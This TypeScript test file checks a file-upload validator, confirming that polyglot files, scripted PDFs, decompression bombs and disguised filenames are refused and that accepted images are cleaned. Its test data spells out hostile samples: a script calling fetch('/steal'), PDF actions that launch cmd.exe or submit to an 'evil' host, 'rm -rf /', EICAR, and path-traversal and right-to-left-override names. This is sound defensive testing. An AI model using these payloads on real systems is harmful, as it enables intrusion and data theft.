import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { myfileDownload } from '@cme/contract/person';
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { beforeAll, describe, expect, test } from 'vitest';
import { type Learner, newLearner } from '../../../../test/learner.ts';
import * as files from '../../../../test/sample-files.ts';
import { startApiForFile } from '../../../../test/api-for-file.ts';
import { upload } from '../../../../test/upload.ts';

const api = await startApiForFile();
let learner: Learner;
beforeAll(async () => {
  learner = await newLearner(api);
});

const script = '<script>fetch("/steal")</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
const action = '4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj';
const zip = () => Buffer.from(zipSync({ 'index.html': Buffer.from(script) }));
const notThis = /只支持 jpg、png、pdf 文件/;

const hostile: [string, string, () => Buffer | Promise<Buffer>, RegExp][] = [
  ['EICAR', 'eicar.pdf', () => Buffer.from(files.eicar), notThis],
  ['an svg with a script', '头像.png', () => Buffer.from(svg), notThis],
  ['html named jpg', 'photo.jpg', () => Buffer.from(`<!doctype html>${script}`), notThis],
  ['a program', '证明.pdf.exe', () => Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), notThis],
  ['a zip archive', '证明.pdf', zip, notThis],
  ['a shell script', 'a.png', () => Buffer.from('#!/bin/sh\nrm -rf /'), notThis],
  ['a HEIC photo', 'a.jpg', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1'), /HEIC/],
  ['a GIF that is a script', 'a.png', () => Buffer.from('GIF89a/*x*/=1;alert(1)'), notThis],
  [
    'a PDF behind a page',
    'a.pdf',
    async () => Buffer.concat([Buffer.from(script), await files.pdf()]),
    notThis,
  ],
  [
    'a page behind a PDF',
    'a.pdf',
    async () => Buffer.concat([await files.pdf(), Buffer.from(script)]),
    /不是单纯的 PDF/,
  ],
  [
    'an archive behind a PDF',
    'a.pdf',
    async () => Buffer.concat([await files.pdf(), zip(), Buffer.from('%%EOF')]),
    /不是单纯的 PDF/,
  ],
  [
    'a page in the head of a PDF',
    'a.pdf',
    async () =>
      Buffer.from((await files.pdf()).toString('latin1').replace('\n', `\n%${script}\n`), 'latin1'),
    /不是单纯的 PDF/,
  ],
  [
    'a PDF with a script',
    'a.pdf',
    () => files.pdfWith(action, '/OpenAction 4 0 R'),
    /脚本或自动操作/,
  ],
  [
    'a PDF with a hidden name',
    'a.pdf',
    () =>
      files.pdfWith(
        action.replace('JavaScript', 'Java#53cript').replace('/JS', '/J#53'),
        '/OpenAction 4 0 R',
      ),
    /脚本或自动操作/,
  ],
  [
    'a PDF with a script in packed objects',
    'a.pdf',
    () =>
      files.pdfPacked({
        filter: '/FlateDecode',
        encode: deflateSync,
        inside: '<< /S /JavaScript /JS (x) >>',
      }),
    /脚本或自动操作/,
  ],
  [
    'a PDF that starts a program',
    'a.pdf',
    () => files.pdfWith('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'),
    /脚本或自动操作/,
  ],
  [
    'a PDF with a form that sends',
    'a.pdf',
    () => files.pdfWith('4 0 obj\n<< /S /SubmitForm /F (http://evil) >>\nendobj'),
    /脚本或自动操作/,
  ],
  [
    'a PDF with files in it',
    'a.pdf',
    () => files.pdfWith('4 0 obj\n<< /EmbeddedFiles 5 0 R >>\nendobj'),
    /嵌入的附件/,
  ],
  [
    'a PDF nobody can look into',
    'a.pdf',
    () =>
      files.pdfWith(
        '4 0 obj\n<< /Filter /Standard >>\nendobj\n6 0 obj\n<< /Encrypt 4 0 R >>\nendobj',
      ),
    /已加密/,
  ],
  [
    'a PDF that is a bomb',
    'a.pdf',
    () => files.pdfWith(files.streamObject('', Buffer.alloc(200 * 1024 * 1024))),
    /压缩内容异常/,
  ],
  [
    'a PDF of packed objects that is a bomb',
    'a.pdf',
    () =>
      files.pdfWith(
        files.streamObject('/Type /ObjStm /N 0 /First 0', Buffer.alloc(40 * 1024 * 1024)),
      ),
    /压缩内容异常/,
  ],
  ['only the head of a PDF', 'a.pdf', () => Buffer.from('%PDF-1.7\n'), /已损坏/],
  ['a PNG of 2.5 billion points', 'a.png', () => files.hugePng(50_000), /图片尺寸过大/],
  ['a JPEG that breaks off', 'a.jpg', async () => (await files.photo()).subarray(0, 700), /已损坏/],
  [
    'the mark of a PNG and noise',
    'a.png',
    () =>
      Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        Buffer.alloc(5000, 7),
      ]),
    /已损坏/,
  ],
];

describe('rejected whatever its name', () => {
  test.each(hostile)('%s', { timeout: 90_000 }, async (_, name, make, reason) => {
    const file = await upload(api, learner, { name, bytes: Buffer.from(await make()) });
    expect(file).toMatchObject({ file_status: 'refused', reason: expect.stringMatching(reason) });
    await expect(
      api.send(myfileDownload, { file_id: file.file_id }, learner),
    ).rejects.toMatchObject({ statusCode: 404 });
  });

  test('rejected files leave nothing behind', async () => {
    const folder = api.context.settings.dataDir;
    expect(readdirSync(folder)).toEqual(['files']);
    const left = () =>
      readdirSync(join(folder, 'files'), { recursive: true, withFileTypes: true })
        .filter((item) => item.isFile())
        .map(({ name }) => name);
    await expect.poll(left).toEqual([]);
  });
});

describe('accepted', () => {
  const downloadBytes = async (fileId: string) => {
    const { url } = await api.send(myfileDownload, { file_id: fileId }, learner);
    const answer = await fetch(`${api.url}${new URL(url).pathname}`, {
      headers: { host: `127.0.0.1:${new URL(api.url).port}` },
    });
    return Buffer.from(await answer.arrayBuffer());
  };

  test('a photo, re-encoded without location, camera data and trailing content', async () => {
    const given = Buffer.concat([await files.photo(6000, 100), zip(), Buffer.from(script)]);
    const file = await upload(api, learner, { name: 'IMG.php.JPG', bytes: given });
    expect(file).toMatchObject({ file_status: 'ready', format: 'jpg', name: 'IMG.jpg' });
    const kept = await downloadBytes(file.file_id);
    expect(kept.length).toBe(file.size);
    const { width, exif, format } = await sharp(kept).metadata();
    expect([width, exif, format]).toEqual([4096, undefined, 'jpeg']);
    for (const word of ['PhoneMaker', 'hidden words', 'script', 'PK\x03\x04'])
      expect(kept.includes(word)).toBe(false);
  });

  test('a drawing, and an unchanged PDF, with the right extension', async () => {
    const png = await upload(api, learner, { name: 'x.pdf', bytes: await files.drawing() });
    expect(png).toMatchObject({ file_status: 'ready', format: 'png', name: 'x.png' });
    const bytes = await files.pdf('结业', 30);
    const pdf = await upload(api, learner, { name: '../结业\u202Efdp.exe', bytes });
    expect(pdf).toMatchObject({ file_status: 'ready', format: 'pdf', name: '结业fdp.pdf' });
    expect((await downloadBytes(pdf.file_id)).equals(bytes)).toBe(true);
  });
});
